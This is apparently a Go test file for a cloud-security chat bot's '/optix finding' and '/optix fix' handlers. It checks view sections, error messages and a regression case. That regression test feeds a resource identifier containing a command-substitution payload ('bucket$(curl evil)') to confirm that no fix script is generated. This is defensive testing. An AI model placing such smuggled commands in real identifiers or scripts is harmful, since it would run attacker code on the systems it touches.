package handlers

import (
	"context"
	"strings"
	"testing"

	"github.com/optix-bot/optix-bot/bot/console"
	"github.com/optix-bot/optix-bot/posture"
)

func TestFindingView(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	fid := financeFinding(t, h)
	rep := h.ask(t, "alice", "/optix finding "+strings.ToLower(fid))
	if !rep.OK {
		t.Fatalf("finding: %s", rep.Error)
	}
	headings := map[string]bool{}
	for _, s := range rep.Sections {
		headings[strings.Fields(s.Heading + " x")[0]] = true
	}
	for _, want := range []string{"Finding", "Risk", "Context", "Related", "Group", "How"} {
		if !headings[want] {
			t.Errorf("finding view lacks the %q section: %v", want, headings)
		}
	}
	if !strings.Contains(rep.Footer, "/optix fix "+fid) {
		t.Errorf("footer = %q, want a pointer to the fix", rep.Footer)
	}
	checkGolden(t, "finding.golden.txt", console.Render(rep))

	// The Cloud Optix alert id finds the same finding.
	alert := h.ask(t, "alice", "/optix finding A-000001")
	if !alert.OK || !strings.HasPrefix(alert.Title, "F-") {
		t.Errorf("finding by alert id = %+v", alert)
	}
}

func TestFindingErrors(t *testing.T) {
	h := newHarness(t, harnessOpts{})
	tests := []struct{ text, want string }{
		{"/optix finding", "Give one finding id, e.g. /optix finding F-1a2b3c4d."},
		{"/optix finding F-1 F-2", "Give one finding id, e.g. /optix finding F-1a2b3c4d."},
		{"/optix finding F-00000000", "There is no finding F-00000000 in the latest pull; /optix top-risks lists the open ones."},
		{"/optix finding C-00000000", "There is no cluster C-00000000 in the latest pull; /optix clusters lists them."},
		{"/optix finding " + strings.Repeat("F", 300), "There is no finding " + strings.Repeat("F", 40) + "…"},
	}
	for _, tt := range tests {
		rep := h.ask(t, "alice", tt.text)
		if rep.OK || !strings.HasPrefix(rep.Error, tt.want) {
			t.Errorf("%.40s: %q, want %q", tt.text, rep.Error, tt.want)
		}
	}
}

// Regression: the finding view promised a script for a finding whose
// identifiers then failed validation, and /optix fix gave manual steps.
func TestFindingViewPromisesOnlyScriptsThatRender(t *testing.T) {
	f := posture.Finding{Source: "optix", Rule: "AR-251", Check: "s3_bucket_public_access", Provider: "aws", Account: "111122223333",
		Region: "us-east-1", Resource: posture.Resource{ID: "arn:aws:s3:::bucket$(curl evil)", Name: "bucket$(curl evil)"},
		Severity: posture.SeverityCritical, Status: posture.StatusOpen}
	f.ID = posture.FindingID(f.Provider, f.Account, f.Check, f.Resource.ID)
	h := newHarness(t, harnessOpts{puller: PullFunc(func(context.Context) (*Pull, error) {
		return &Pull{Source: "test", Started: fixedNow, Finished: fixedNow, Findings: []posture.Finding{f}}, nil
	})})
	view := h.ask(t, "alice", "/optix finding "+f.ID)
	if !view.OK || strings.Contains(view.Footer, "A vetted script is available") {
		t.Errorf("footer = %q", view.Footer)
	}
	fix := h.ask(t, "alice", "/optix fix "+f.ID)
	if !fix.OK || fix.Code != nil || len(fix.Buttons) != 0 {
		t.Errorf("a hostile identifier produced a script: %+v", fix.Code)
	}
}
